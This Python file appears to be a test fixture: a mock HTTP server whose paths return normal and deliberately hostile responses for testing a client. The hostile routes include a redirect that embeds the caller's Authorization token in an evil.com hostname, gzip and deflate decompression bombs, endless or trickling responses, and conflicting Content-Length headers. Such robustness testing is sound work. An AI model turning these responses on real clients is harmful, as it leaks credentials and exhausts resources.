"""What the server outside says, by path: lawful answers and hostile ones."""

import gzip
import json
import zlib
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from itertools import repeat
from urllib.parse import parse_qs, urlsplit


@dataclass(frozen=True)
class Wait:
    """Nothing is sent for `seconds`."""

    seconds: float


Pieces = Iterable[bytes | Wait]


def answer_to(head: str) -> Pieces:
    """The bytes for a request."""
    url = urlsplit(head.split(" ")[1])
    answer = ANSWERS.get(url.path)
    if answer is None:
        return [whole(b"there is no such page", status="404 Not Found")]
    return answer(head, {name: values[0] for name, values in parse_qs(url.query).items()})


def whole(body: bytes, kind: str = "text/plain", status: str = "200 OK", **headers: str) -> bytes:
    """An answer with its length."""
    lines = [f"HTTP/1.1 {status}", f"Content-Type: {kind}", f"Content-Length: {len(body)}"]
    lines += [f"{name.replace('_', '-')}: {value}" for name, value in headers.items()]
    return "\r\n".join([*lines, "", ""]).encode() + body


def _json(_head: str, _query: dict[str, str]) -> Pieces:
    body = b'{"a":[1,2.5,null],"big":123456789012345678901}'
    yield whole(body, "application/json; charset=utf-8", X_Internal="yes", ETag='"v1"')


def _mirror(head: str, _query: dict[str, str]) -> Pieces:
    lines = [line.partition(": ") for line in head.splitlines()[1:] if line]
    headers = {name.lower(): value for name, _, value in lines}
    yield whole(json.dumps(headers).encode(), "application/json")


def _escaping_mirror(head: str, _query: dict[str, str]) -> Pieces:
    """The same, with every character of a value escaped."""
    lines = [line.partition(": ") for line in head.splitlines()[1:] if line]
    escaped = {
        name.lower(): "".join(f"\\u{ord(each):04X}" for each in value) for name, _, value in lines
    }
    body = ",".join(f'"{name}":"{value}"' for name, value in escaped.items())
    yield whole(f"{{{body}}}".encode(), "application/json")


def _giving_away(head: str, _query: dict[str, str]) -> Pieces:
    """A redirect to a host that is named after the caller's credential."""
    [token] = [line.split()[-1] for line in head.splitlines() if line.startswith("Authorization")]
    [port] = [line.rpartition(":")[2] for line in head.splitlines() if line.startswith("Host")]
    yield whole(b"", status="302 Found", Location=f"https://{token}.evil.com:{port}/")


def _redirect(_head: str, query: dict[str, str]) -> Pieces:
    yield b"HTTP/1.1 302 Found\r\nContent-Length: 0\r\nLocation: "
    yield query["to"].encode() + b"\r\n\r\n"


def _far(_head: str, _query: dict[str, str]) -> Pieces:
    yield whole(b"", status="302 Found", Location="https://api.example.com/" + "a" * 4_096)


def _count_down(_head: str, query: dict[str, str]) -> Pieces:
    left = int(query["n"])
    if left == 0:
        yield whole(b"arrived")
    else:
        yield whole(b"", status="307 Temporary Redirect", Location=f"/down?n={left - 1}")


def _packed(body: bytes, coding: str) -> Pieces:
    yield whole(body, Content_Encoding=coding)


def _bomb(bits: int) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, bits)
    return b"".join(packer.compress(bytes(1 << 20)) for _ in range(64)) + packer.flush()


def _long(_head: str, query: dict[str, str]) -> Pieces:
    yield whole(query.get("with", "x").encode() * int(query["n"]))


def _endless(_head: str, _query: dict[str, str]) -> Pieces:
    yield b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\n"
    yield from repeat(b"x" * 65_536)


def _endless_chunks(_head: str, _query: dict[str, str]) -> Pieces:
    yield b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
    yield from repeat(b"1\r\nx\r\n" * 8_192)


def _trickle(before: bytes) -> Callable[[str, dict[str, str]], Pieces]:
    def answer(_head: str, _query: dict[str, str]) -> Iterator[bytes | Wait]:
        yield before
        while True:
            yield Wait(0.05)
            yield b"x"

    return answer


def _silence(_head: str, _query: dict[str, str]) -> Pieces:
    yield Wait(60)


def _headers(_head: str, _query: dict[str, str]) -> Pieces:
    yield b"HTTP/1.1 200 OK\r\n"
    yield from repeat(b"X-Filler: " + b"y" * 1_000 + b"\r\n")


def _one_header(_head: str, _query: dict[str, str]) -> Pieces:
    yield b"HTTP/1.1 200 OK\r\nX-Filler: "
    yield from repeat(b"y" * 65_536)


def _interim(_head: str, _query: dict[str, str]) -> Pieces:
    yield from repeat(b"HTTP/1.1 103 Early Hints\r\nLink: </x>\r\n\r\n" * 100)


def _trailers(_head: str, _query: dict[str, str]) -> Pieces:
    yield b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\n"
    yield from repeat(b"X-Filler: " + b"y" * 1_000 + b"\r\n")


def _raw(answer: bytes) -> Callable[[str, dict[str, str]], Pieces]:
    return lambda _head, _query: [answer]


_CUT_GZIP = gzip.compress(b"hello " * 100)[:-12]

ANSWERS: dict[str, Callable[[str, dict[str, str]], Pieces]] = {
    "/": _raw(whole(b"hello")),
    "/json": _json,
    "/mirror": _mirror,
    "/escaping-mirror": _escaping_mirror,
    "/giving-away": _giving_away,
    "/redirect": _redirect,
    "/far": _far,
    "/down": _count_down,
    "/nowhere": _raw(whole(b"moved", status="302 Found")),
    "/latin": _raw(whole("größer".encode("latin-1"), "text/plain; charset=ISO-8859-1")),
    "/nul": _raw(whole(b"a\x00b")),
    "/image": _raw(whole(b"\x89PNG", "image/png")),
    "/growing-json": _raw(whole(b"[" + b"1e20," * 9_000 + b"0]", "application/json")),
    "/bad-json": _raw(whole(b"{", "application/json")),
    "/long": _long,
    "/gzip": lambda *_: _packed(gzip.compress(b"hello " * 100), "gzip"),
    "/deflate": lambda *_: _packed(zlib.compress(b"hello"), "deflate"),
    "/raw-deflate": lambda *_: _packed(zlib.compress(b"hello", wbits=-15), "deflate"),
    "/gzip-cut": lambda *_: _packed(_CUT_GZIP, "gzip"),
    "/gzip-twice": lambda *_: _packed(gzip.compress(b"a") + gzip.compress(b"b"), "gzip"),
    "/gzip-not": lambda *_: _packed(b"not gzip at all", "gzip"),
    "/gzip-stacked": lambda *_: _packed(gzip.compress(gzip.compress(b"a")), "gzip, gzip"),
    "/brotli": lambda *_: _packed(b"\x0b\x02\x80hello\x03", "br"),
    "/bomb": lambda *_: _packed(_bomb(31), "gzip"),
    "/deflate-bomb": lambda *_: _packed(_bomb(15), "deflate"),
    "/endless": _endless,
    "/endless-chunks": _endless_chunks,
    "/slow-body": _trickle(b"HTTP/1.1 200 OK\r\n\r\n"),
    "/slow-headers": _trickle(b"HTTP/1.1 200 OK\r\nX-Slow: "),
    "/silence": _silence,
    "/headers": _headers,
    "/one-header": _one_header,
    "/interim": _interim,
    "/trailers": _trailers,
    "/cut": _raw(b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nshort"),
    "/empty": _raw(b""),
    "/garbage": _raw(b"SSH-2.0-OpenSSH_9.6\r\n\r\n"),
    "/switch": _raw(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\n\r\n"),
    "/two-lengths": _raw(b"HTTP/1.1 200 OK\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab"),
    "/packed-transfer": _raw(
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n"
    ),
    "/bad-chunk": _raw(
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nx\r\n0\r\n\r\n"
    ),
}
